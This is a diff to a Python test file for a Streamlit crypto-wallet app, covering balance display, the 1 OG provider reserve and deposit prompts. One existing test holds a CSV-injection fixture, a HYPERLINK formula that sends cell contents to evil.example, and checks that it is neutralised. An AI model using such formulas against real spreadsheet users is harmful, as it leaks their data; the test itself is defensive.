@@ -9,7 +9,7 @@ from dataclasses import replace
 from streamlit.testing.v1 import AppTest
 
 from tests.support.app import APP, check, texts
-from tests.support.fake_client import FakeNetwork, SubAccount
+from tests.support.fake_client import ONE_OG, FakeNetwork, SubAccount
 
 TIMEOUT = 30
 ODD_WEI = 1_999_781_834_000_000_000  # 1.999781834 OG: 2, 4 and 6 decimals, rounded or cut, all differ
@@ -46,7 +46,7 @@ def test_the_same_balance_shows_the_same_digits_in_the_sidebar_and_on_the_wallet
     assert f"Ledger available: **{shown}**" in _sidebar_lines(at)
     assert f"Locked with providers: **{shown}**" in _sidebar_lines(at)
     table = next(d.value for d in at.dataframe if "usable" in d.value.columns)
-    assert list(table["balance"]) == [shown] and list(table["usable"]) == [shown]
+    assert list(table["balance"]) == [shown] and list(table["usable"]) == ["0.9997 OG"]  # 1 OG is the reserve
     exact = next(m for m in at.main.metric if m.label == "Wallet").help
     assert "1.999781834 OG" in exact  # the exact figure, on demand
 
@@ -59,3 +59,42 @@ def test_a_provider_named_like_a_formula_is_not_a_formula_in_the_tables_csv(fake
     risky = [m for m in models if m[:1] in "=+-@"]
     assert not risky, risky  # a cell the built-in CSV download would hand a spreadsheet as a formula
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in models  # still readable as typed
+
+
+def _fund(net: FakeNetwork, provider: str, balance_wei: int, *, ledger_wei: int = 10 * ONE_OG) -> None:
+    user = _user(net)
+    net.ledgers[user] = ledger_wei
+    net.accounts[(user, provider)] = SubAccount(balance_wei=balance_wei)
+
+
+def test_one_og_at_a_provider_is_usable_nowhere(fake_net):
+    """1 OG is the provider's reserve: the Wallet table, Chat and Text-to-image all say 0 usable."""
+    at = _open("wallet")
+    chat, img = fake_net.of_type("chatbot"), fake_net.of_type("text-to-image")
+    _fund(fake_net, chat.provider, ONE_OG)
+    fake_net.accounts[(_user(fake_net), img.provider)] = SubAccount(balance_wei=ONE_OG)
+    check(at.run())
+    table = next(d.value for d in at.dataframe if "usable" in d.value.columns)
+    assert set(table["usable"]) == {"0 OG"}, table
+    at.switch_page("app_pages/chat.py")
+    check(at.run())
+    assert at.chat_input(key="chat_input").disabled
+    assert any("nothing is left for requests" in t for t in texts(at.warning))
+    assert at.text_input(key="chat_fund_amount").value == "1"  # 1 more leaves 1 OG usable
+    at.switch_page("app_pages/text_to_image.py")
+    check(at.run())
+    assert at.button(key="img_run").disabled
+
+
+def test_compare_offers_the_deposit_in_place_when_the_ledger_holds_too_little(fake_net):
+    at = _open("compare")
+    user = _user(fake_net)
+    fake_net.ledgers[user] = ONE_OG  # two unfunded chatbots need 2 OG each
+    check(at.run())
+    words = " ".join(texts(at.warning) + texts(at.info))
+    assert "not funded yet; it keeps" not in words
+    assert "Deposit" in at.button(key="cmp_deposit_btn").label
+    assert at.text_input(key="cmp_deposit_amount").value == "3"  # 2 × 2 OG − the 1 OG there
+    at.button(key="cmp_deposit_btn").click()
+    check(at.run())
+    assert any("Deposit 3 OG into your ledger" in t for t in texts(at.markdown))  # the confirmation dialog
